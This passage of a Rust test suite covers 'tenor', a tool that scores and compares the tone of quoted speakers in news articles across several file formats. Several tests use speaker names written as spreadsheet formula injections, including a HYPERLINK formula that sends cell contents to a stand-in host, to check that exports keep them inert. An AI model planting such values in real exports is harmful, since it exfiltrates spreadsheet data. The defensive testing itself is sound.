        .args(["score", "harbour.jsonl", "--quiet", "--out", "scored"])
        .current_dir(dir.path())
        .status()
        .unwrap();
    assert!(status.success());
    let table = QuoteTable::from_path(&dir.path().join("scored")).unwrap();
    assert_eq!(table.rows.len(), 11, "one quote per paragraph");
    let mean_of = |articles: &[&str], speaker: &str| {
        let values: Vec<f64> = table
            .rows
            .iter()
            .filter(|r| articles.contains(&r.article_id.as_str()) && r.speaker == speaker)
            .filter_map(|r| r.score(ScoreColumn::Sentiment))
            .collect();
        (values.len(), stats::mean(&values))
    };
    // (field, period, [(group, its articles)]), groups in output order.
    type Groups<'a> = [(&'a str, &'a [&'a str]); 2];
    let cases: [(&str, &str, Groups); 3] = [
        (
            "source",
            "month",
            [
                ("Coastal Herald", &["c1", "c2"]),
                ("Northern Post", &["n1", "n2", "n3"]),
            ],
        ),
        (
            "date",
            "month",
            [("2025-03", &["n1", "n2", "c1"]), ("2025-04", &["n3", "c2"])],
        ),
        (
            "desk",
            "month",
            [
                ("economy", &["n1", "n2", "c2"]),
                ("politics", &["n3", "c1"]),
            ],
        ),
    ];
    // Hand count of quotes per group: (Brennick, Vell).
    let counts = [[(2, 3), (3, 3)], [(3, 4), (2, 2)], [(3, 3), (2, 3)]];
    for ((field, period, groups), counts) in cases.into_iter().zip(counts) {
        let out = format!("{field}.csv");
        let output = tenor_compare(
            &[
                "harbour.jsonl",
                "--speaker",
                "Brennick",
                "--speaker",
                "Vell",
                "--by",
                field,
                "--period",
                period,
                "--out",
                &out,
            ],
            dir.path(),
        );
        assert!(output.status.success(), "{output:?}");
        let sentiment = group_counts(&read_comparison(&dir.path().join(&out)), "sentiment");
        assert_eq!(sentiment.len(), 2, "{field}: {sentiment:?}");
        for ((found, (group, articles)), (n_brennick, n_vell)) in
            sentiment.iter().zip(groups).zip(counts)
        {
            assert_eq!(
                (found.0.as_str(), found.1, found.2),
                (group, n_brennick, n_vell)
            );
            let (n_a, mean_a) = mean_of(articles, "Orla Brennick");
            let (n_b, mean_b) = mean_of(articles, "Tomas Vell");
            assert_eq!((n_a, n_b), (n_brennick, n_vell), "{field} {group}");
            assert_close(found.3, mean_a, group);
            assert_close(found.4, mean_b, group);
        }
        // Source and date are in the score output too: comparing from it gives the same table.
        if field != "desk" {
            let again = format!("{field}_from_folder.csv");
            let output = tenor_compare(
                &[
                    "scored",
                    "--speaker",
                    "Brennick",
                    "--speaker",
                    "Vell",
                    "--by",
                    field,
                    "--out",
                    &again,
                ],
                dir.path(),
            );
            assert!(output.status.success(), "{output:?}");
            assert_eq!(
                fs::read_to_string(dir.path().join(&again)).unwrap(),
                fs::read_to_string(dir.path().join(&out)).unwrap()
            );
        }
    }
}

#[test]
fn article_groups_prefer_the_quote_tables_own_column_and_undo_the_formula_guard() {
    let dir = fixture_dir();
    // quotes.csv has its own source column (Wire, Daily, Post): articles.csv is not needed.
    let table = QuoteTable::from_path(dir.path()).unwrap();
    let by_source = tenor::compare::ArticleGroups::from_output(
        &table,
        &tenor::groups::GroupField::Source,
        tenor::groups::Period::Month,
    )
    .unwrap();
    assert_eq!(by_source.label, "source");
    assert_eq!(
        ["a1", "a2", "a3", "a9"].map(|a| by_source.group_of(a)),
        ["Wire", "Daily", "Post", "unknown"]
    );

    // Without its own column, the articles.csv beside it; a source written as '=Wire by the
    // formula guard is the source =Wire, and a group named after "unknown" still sorts before it.
    let other = tempfile::tempdir().unwrap();
    fs::write(
        other.path().join("quotes.csv"),
        "article_id,speaker,topics,sentiment,positive,negative,neutral,cooperation,warmth,threat,\
         assertiveness,irony\n\
         x1,Ana Petrova,,0,0,0,1,0,0.5,0,0,0\nx2,Ana Petrova,,0,0,0,1,0,0.7,0,0,0\n\
         x3,Ana Petrova,,0,0,0,1,0,0.1,0,0,0\nx1,Ivan Horvat,,0,0,0,1,0,0.1,0,0,0\n",
    )
    .unwrap();
    fs::write(
        other.path().join("articles.csv"),
        "article_id,source,date\nx1,'=Wire,2025-01-01\nx2,zeta radio,2025-01-02\nx3,,2025-01-03\n",
    )
    .unwrap();
    let table = QuoteTable::from_path(other.path()).unwrap();
    let groups = tenor::compare::ArticleGroups::from_output(
        &table,
        &tenor::groups::GroupField::Source,
        tenor::groups::Period::Month,
    )
    .unwrap();
    assert_eq!(groups.group_of("x1"), "=Wire");
    let comparison = tenor::compare::compare_grouped(
        &table.rows,
        &groups,
        &["Petrova", "Horvat"],
        None,
        &warmth_only(),
    )
    .unwrap();
    let order: Vec<Option<&str>> = comparison.rows.iter().map(|r| r.group.as_deref()).collect();
    assert_eq!(order, [Some("=Wire"), Some("zeta radio"), Some("unknown")]);
    // In the CSV the group is guarded again.
    let mut csv = Vec::new();
    comparison.write_csv(&mut csv).unwrap();
    let csv = String::from_utf8(csv).unwrap();
    assert!(
        csv.lines().nth(1).unwrap().starts_with("'=Wire,warmth,"),
        "{csv}"
    );
}

// `tenor compare --format` and comparing from score folders of every text format, through the binary.

/// Runs `tenor` with `args` in `dir`, expecting success.
fn tenor_ok(args: &[&str], dir: &std::path::Path) -> std::process::Output {
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_tenor"))
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(output.status.success(), "tenor {args:?}: {output:?}");
    output
}

#[test]
fn a_folder_scored_in_any_text_format_gives_the_same_comparison() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("harbour.jsonl"), HARBOUR_JSONL).unwrap();
    let formats: [(&str, &[&str]); 4] = [
        ("csv", &[]),
        ("jsonl", &["--format", "jsonl"]),
        ("tsv", &["--format", "tsv", "--excel"]),
        (
            "semicolons",
            &["--excel", "--delimiter", ";", "--decimal-comma"],
        ),
    ];
    let mut tables = Vec::new();
    for (name, options) in formats {
        let folder = format!("scored_{name}");
        let mut args = vec!["score", "harbour.jsonl", "--quiet", "--out", &folder];
        args.extend(options);
        tenor_ok(&args, dir.path());
        // --by source reads the articles table in the folder's own format.
        let out = format!("{name}.csv");
        let compare = [
            "compare",
            &folder,
            "--speaker",
            "Brennick",
            "--speaker",
            "Vell",
            "--per-topic",
            "--by",
            "source",
            "--ci-resamples",
            "200",
            "--out",
            &out,
        ];
        let shown = tenor_ok(&compare, dir.path()).stdout;
        tables.push((
            name,
            fs::read_to_string(dir.path().join(&out)).unwrap(),
            shown,
        ));
    }
    let (_, csv, shown) = &tables[0];
    // Two sources, nine scores each, and both speakers are quoted.
    assert!(read_comparison(&dir.path().join("csv.csv")).len() >= 18);
    assert!(csv.contains("Coastal Herald,") && csv.contains("Northern Post,"));
    for (name, table, terminal) in &tables[1..] {
        assert_eq!(table, csv, "scored as {name}");
        assert_eq!(terminal, shown, "scored as {name}");
    }
}

#[test]
fn a_folder_holding_only_a_workbook_is_refused_with_what_to_do() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("harbour.jsonl"), HARBOUR_JSONL).unwrap();
    tenor_ok(
        &[
            "score",
            "harbour.jsonl",
            "--quiet",
            "--format",
            "xlsx",
            "--out",
            "book",
        ],
        dir.path(),
    );
    let output = tenor_compare(
        &["book", "--speaker", "Brennick", "--speaker", "Vell"],
        dir.path(),
    );
    assert_eq!(output.status.code(), Some(2), "{output:?}");
    let message = String::from_utf8(output.stderr).unwrap();
    assert!(
        message.contains("only tenor.xlsx") && message.contains("--format csv, tsv or jsonl"),
        "{message}"
    );
}

/// A score folder holding only a quotes.jsonl written by hand, as `--format jsonl` writes text: as is.
/// Speakers with names that spreadsheets would run as formulas, and one ordinary speaker.
fn hostile_speakers_folder() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let speakers = [
        "=HYPERLINK(\"http://x.example/?d=\"&A1,\"open\")",
        "@SUM(1)",
        "Ana Petrova",
    ];
    let mut lines = String::new();
    for (s, speaker) in speakers.iter().enumerate() {
        for (i, warmth) in [0.1, 0.3, 0.2, 0.4].iter().enumerate() {
            let warmth = warmth * (s as f64 - 1.0);
            let row = serde_json::json!({
                "article_id": format!("a{i}"),
                "quote_id": format!("a{i}:{s}"),
                "speaker": speaker,
                "topics": "+harbour",
                "sentiment": 0.0, "positive": 0.0, "negative": 0.0, "neutral": 1.0,
                "cooperation": 0.0, "warmth": warmth, "threat": 0.0,
                "assertiveness": 0.0, "irony": 0.0,
            });
            lines += &format!("{row}\n");
        }
    }
    fs::write(dir.path().join("quotes.jsonl"), lines).unwrap();
    dir
}

#[test]
fn speakers_named_like_formulas_stay_text_in_every_format() {
    let dir = hostile_speakers_folder();
    let hyperlink = "=HYPERLINK(\"http://x.example/?d=\"&A1,\"open\")";
    let speakers = ["--speaker", hyperlink, "--speaker", "@SUM(1)"];
    for out in ["c.csv", "c.tsv", "c.jsonl", "c.xlsx"] {
        let mut args = vec!["compare", "."];
        args.extend(speakers);
        args.extend(["--per-topic", "--ci-resamples", "200", "--out", out]);
        tenor_ok(&args, dir.path());
    }
    let csv = read_comparison(&dir.path().join("c.csv"));
    assert_eq!(csv[0]["speaker_a"], format!("'{hyperlink}"));
    assert_eq!(csv[0]["speaker_b"], "'@SUM(1)");
    assert_eq!(csv[0]["topic"], "(all)");
    assert_eq!(csv[9]["topic"], "'+harbour");
    let tsv = fs::read_to_string(dir.path().join("c.tsv")).unwrap();
    let first = tsv.lines().nth(1).unwrap();
    // The TSV quotes the name for its double quotes; inside them it starts with the guard.
    assert!(first.contains("\t\"'=HYPERLINK(\"\"http"), "{first}");
    assert!(first.contains("\t'@SUM(1)\t"), "{first}");
    // JSON Lines is not read by spreadsheets and keeps text as is.
    let jsonl = fs::read_to_string(dir.path().join("c.jsonl")).unwrap();
    let row: serde_json::Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
    assert_eq!(row["speaker_a"], hyperlink);
    assert_eq!(row["n_a"], 4);

    use calamine::{Data, Reader, Xlsx, open_workbook};
    let mut book: Xlsx<_> = open_workbook(dir.path().join("c.xlsx")).unwrap();
    let rows = book.worksheet_range("compare").unwrap();
    let first: Vec<Data> = rows.rows().nth(1).unwrap().to_vec();
    assert_eq!(first[2], Data::String(hyperlink.to_string()));
    assert_eq!(first[3], Data::String("@SUM(1)".to_string()));
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "formula in sheet {name}"
        );
    }
}

#[test]
fn an_xlsx_comparison_holds_the_csvs_values_and_a_readme_for_every_column() {
    let dir = hostile_speakers_folder();
    let common = [
        "compare",
        ".",
        "--speaker",
        "Petrova",
        "--speaker",
        "@SUM(1)",
        "--speaker",
        "=HYPERLINK(\"http://x.example/?d=\"&A1,\"open\")",
        "--ci-resamples",
        "200",
    ];
    let mut csv_args = common.to_vec();
    csv_args.extend(["--out", "c.csv", "--similarity", "s.csv"]);
    tenor_ok(&csv_args, dir.path());
    let mut xlsx_args = common.to_vec();
    xlsx_args.extend(["--out", "c.xlsx", "--similarity"]);
    tenor_ok(&xlsx_args, dir.path());
    // Without FILE, the similarity table is a sheet of the workbook: no other file appears.
    assert!(!dir.path().join("similarity").exists());

    use calamine::{Data, Reader, Xlsx, open_workbook};
    let mut book: Xlsx<_> = open_workbook(dir.path().join("c.xlsx")).unwrap();
    assert_eq!(book.sheet_names(), ["compare", "similarity", "README"]);
    for (sheet, file) in [("compare", "c.csv"), ("similarity", "s.csv")] {
        let range = book.worksheet_range(sheet).unwrap();
        let cells: Vec<Vec<Data>> = range.rows().map(|r| r.to_vec()).collect();
        let mut reader = csv::Reader::from_path(dir.path().join(file)).unwrap();
        let mut csv: Vec<Vec<String>> =
            vec![reader.headers().unwrap().iter().map(String::from).collect()];
        csv.extend(
            reader
                .records()
                .map(|r| r.unwrap().iter().map(String::from).collect()),
        );
        assert_eq!(cells.len(), csv.len(), "{sheet}");
        // Three speakers: three pairs, and for the comparison nine scores each.
        let pairs = if sheet == "compare" { 27 } else { 3 };
        assert_eq!(csv.len(), 1 + pairs, "{sheet}");
        for (row, (in_book, in_csv)) in cells.iter().zip(&csv).enumerate() {
            assert_eq!(in_book.len(), in_csv.len(), "{sheet} row {row}");
            for (cell, text) in in_book.iter().zip(in_csv) {
                // The CSV guards formula-like text with a leading '; the workbook stores text as text.
                let text = text
                    .strip_prefix('\'')
                    .filter(|rest| tenor::output::looks_like_formula(rest))
                    .unwrap_or(text);
                let same = match cell {
                    Data::Empty => text.is_empty(),
                    Data::String(s) => s == text,
                    Data::Float(x) => text.parse::<f64>().ok() == Some(*x),
                    other => panic!("{sheet} row {row}: unexpected cell {other:?}"),
                };
                assert!(same, "{sheet} row {row}: {cell:?} in xlsx, {text:?} in csv");
            }
        }
    }
    // Numbers are numbers: counts and means.
    let compare = book.worksheet_range("compare").unwrap();
    assert!(matches!(compare.get((1, 4)), Some(Data::Float(n)) if *n == 4.0));
    assert!(matches!(compare.get((1, 6)), Some(Data::Float(_))));

    let readme = book.worksheet_range("README").unwrap();
    let defined: Vec<(String, String)> = readme
        .rows()
        .filter_map(|r| match (r.first(), r.get(1), r.get(4)) {
            (
                Some(Data::String(sheet)),
                Some(Data::String(column)),
                Some(Data::String(meaning)),
            ) if !meaning.is_empty() => Some((sheet.clone(), column.clone())),
            _ => None,
        })
        // The README table's own header row.
        .skip(1)
        .collect();
    let mut expected: Vec<(String, String)> = Comparison::CSV_COLUMNS
        .iter()
        .map(|c| ("compare".to_string(), c.to_string()))
        .collect();
    expected.extend(
        tenor::compare::Similarity::COLUMNS
            .iter()
            .map(|c| ("similarity".to_string(), c.to_string())),
    );
    assert_eq!(defined, expected);
}

#[test]
fn spreadsheet_options_shape_the_comparison_as_they_do_the_score_tables() {
    let dir = score_folder_by_hand();
    let args = [
        "compare",
        ".",
        "--speaker",
        "Petrova",
        "--speaker",
        "Horvat",
        "--ci-resamples",
        "200",
        "--out",
        "c.csv",
        "--excel",
        "--delimiter",
        ";",
        "--decimal-comma",
    ];
    tenor_ok(&args, dir.path());
    let written = fs::read(dir.path().join("c.csv")).unwrap();
    assert!(written.starts_with(b"\xEF\xBB\xBF"));
    let text = String::from_utf8(written[3..].to_vec()).unwrap();
    assert!(text.starts_with("score;topic;speaker_a;"), "{text}");
    assert!(text.contains("\r\n"));
    // Warmth: Ana 0.6, 0.2, 0.4, 0.1, -0.1, 0.3 (mean 0.25); Ivan -0.2, -0.4, 0.0, 0.5, 0.2 (0.02).
    let warmth = text.lines().find(|l| l.starts_with("warmth;")).unwrap();
    assert!(
        warmth.starts_with("warmth;(all);Ana Petrova;Ivan Horvat;6;5;0,2500;0,0200;0,2300;"),
        "{warmth}"
    );

    // Options that do not fit are usage errors, found before any work.
    for bad in [
        &["--out", "c.xlsx", "--excel"][..],
        &["--out", "c.csv", "--similarity"],
        &["--out", "c.csv", "--decimal-comma"],
    ] {
        let mut args = vec![".", "--speaker", "Petrova", "--speaker", "Horvat"];
        args.extend(bad);
        let output = tenor_compare(&args, dir.path());
        assert_eq!(output.status.code(), Some(2), "{bad:?}: {output:?}");
    }
}

#[test]
fn a_folder_scored_twice_in_different_formats_is_read_from_its_newest_table() {
    let dir = fixture_dir();
    let older = std::time::SystemTime::now() - std::time::Duration::from_secs(3600);
    fs::File::options()
        .write(true)
        .open(dir.path().join("quotes.csv"))
        .unwrap()
        .set_modified(older)
        .unwrap();
    // A later run as JSON Lines found one quote, by someone else (cells as text, which reads too).
    let mut quote = serde_json::Map::new();
    let header = QUOTES_CSV.lines().next().unwrap().split(',');
    let mut cells = csv::Reader::from_reader(QUOTES_CSV.as_bytes());
    let first = cells.records().next().unwrap().unwrap();
    for (column, cell) in header.zip(first.iter()) {
        quote.insert(column.to_string(), cell.into());
    }
    quote.insert("speaker".into(), "Olga Berg".into());
    fs::write(
        dir.path().join("quotes.jsonl"),
        format!("{}\n", serde_json::Value::Object(quote)),
    )
    .unwrap();
    assert_eq!(
        QuoteTable::find_in(dir.path()).unwrap(),
        Some(dir.path().join("quotes.jsonl"))
    );
    let table = QuoteTable::from_path(dir.path()).unwrap();
    assert_eq!(table.rows.len(), 1);
    assert_eq!(table.rows[0].speaker, "Olga Berg");
    assert_eq!(table.rows[0].score(ScoreColumn::Sentiment), Some(-0.42));

    // A run without quotes leaves an empty quotes.jsonl: no speaker to find, said as such.
    fs::write(dir.path().join("quotes.jsonl"), "").unwrap();
    let empty = QuoteTable::from_path(dir.path()).unwrap();
    assert!(empty.rows.is_empty());
    let err = find_speaker(&empty.rows, "Berg").unwrap_err();
    assert!(err.to_string().contains("0 speakers have quotes"), "{err}");
    // An empty folder is not a score output.
    let nothing = tempfile::tempdir().unwrap();
    assert_eq!(QuoteTable::find_in(nothing.path()).unwrap(), None);
    assert!(matches!(
        QuoteTable::from_path(nothing.path()),
        Err(Error::Input { .. })
    ));
}
